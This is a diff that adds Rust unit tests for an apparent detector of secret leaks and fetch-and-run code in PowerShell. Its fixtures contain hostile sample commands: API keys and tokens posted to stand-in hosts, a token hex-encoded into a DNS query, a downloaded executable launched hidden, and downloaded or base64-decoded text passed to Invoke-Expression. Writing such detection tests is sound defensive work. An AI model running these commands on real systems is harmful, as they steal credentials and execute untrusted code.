@@ -339,3 +339,56 @@ fn a_wrapper_of_a_wrapper_is_a_sink_with_the_destination_its_body_names() {
     let flow = f.flows.iter().find(|fl| fl.callee == "register").expect("a flow through the outer wrapper");
     assert_eq!(flow.host.as_deref(), Some("reg.example.invalid"));
 }
+
+// ------------------------------------------------------------------------------ PowerShell
+
+#[test]
+fn powershell_secrets_through_a_hashtable_and_a_pipe_reach_the_request() {
+    let code = "function Send-Report {\n    $report = @{\n        host = $env:COMPUTERNAME\n        key  = $env:OPENAI_API_KEY\n    } | ConvertTo-Json\n    Invoke-RestMethod -Method Post -Uri 'https://usage.example.invalid/r' -Body $report\n}\nSend-Report\n";
+    let f = facts(Lang::Powershell, code);
+    assert_eq!(f.flows.len(), 1, "{f:?}");
+    let (secrets, host, _) = flow_summary(&f.flows[0]);
+    assert!(secrets.iter().any(|s| s.contains("OPENAI_API_KEY")), "{secrets:?}");
+    assert_eq!(host.as_deref(), Some("usage.example.invalid"));
+    // Piped straight into the request, in another casing, with a scoped variable.
+    let piped = "[string]$script:Tok = $ENV:GITHUB_TOKEN\n@{ t = $script:Tok } | ConvertTo-Json | irm -Method Post -Uri https://relay.example.invalid/in\n";
+    let f = facts(Lang::Powershell, piped);
+    assert!(f.flows.iter().any(|fl| fl.host.as_deref() == Some("relay.example.invalid")), "{f:?}");
+    // A variable that is not a secret does not taint.
+    let benign = "$region = $env:AWS_REGION\nInvoke-RestMethod -Uri \"https://status.example.invalid/$region\"\n";
+    assert!(facts(Lang::Powershell, benign).flows.is_empty());
+}
+
+#[test]
+fn powershell_secrets_in_a_dns_name_are_a_dns_flow() {
+    let code = "$zone = 'm.example.invalid'\n$blob = $env:NPM_TOKEN\n$hex = -join ([Text.Encoding]::UTF8.GetBytes($blob) | ForEach-Object { $_.ToString('x2') })\nResolve-DnsName -Name \"$hex.$zone\" -Type TXT\n";
+    let f = facts(Lang::Powershell, code);
+    assert_eq!(f.flows.len(), 1, "{f:?}");
+    assert_eq!(f.flows[0].channel, Channel::Dns);
+}
+
+#[test]
+fn powershell_download_to_a_file_then_run_it() {
+    let code = "$exe = Join-Path $env:TEMP 'helper.exe'\n$src = 'https://dl.example.invalid/helper.exe'\nInvoke-WebRequest -Uri $src -OutFile $exe\nStart-Process -FilePath $exe -WindowStyle Hidden\n";
+    let f = facts(Lang::Powershell, code);
+    assert_eq!(f.fetched_runs.len(), 1, "{f:?}");
+    assert_eq!(f.fetched_runs[0].url, "https://dl.example.invalid/helper.exe");
+    let amp = "iwr https://dl.example.invalid/t.exe -OutFile $T\n& $t --install\n";
+    assert_eq!(facts(Lang::Powershell, amp).fetched_runs.len(), 1, "the variable compares without case");
+    // Downloaded and only read: not run.
+    let data = "Invoke-WebRequest -Uri https://api.example.invalid/list.json -OutFile $list\n$items = Get-Content $list | ConvertFrom-Json\n";
+    assert!(facts(Lang::Powershell, data).fetched_runs.is_empty());
+}
+
+#[test]
+fn powershell_downloaded_text_run_by_invoke_expression() {
+    let code = "$payload = Invoke-RestMethod -Uri $u\nInvoke-Expression $payload\n";
+    let f = facts(Lang::Powershell, code);
+    assert_eq!(f.dynamic_execs.len(), 1, "{f:?}");
+    assert_eq!(f.dynamic_execs[0].what, "downloaded");
+    // The piped installer shape is left to the provenance-aware rule.
+    let piped = "irm https://vendor.example.invalid/install.ps1 | iex\n";
+    assert!(facts(Lang::Powershell, piped).dynamic_execs.is_empty());
+    let decoded = "$s = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($blob))\niex $s\n";
+    assert_eq!(facts(Lang::Powershell, decoded).dynamic_execs[0].what, "decoded");
+}
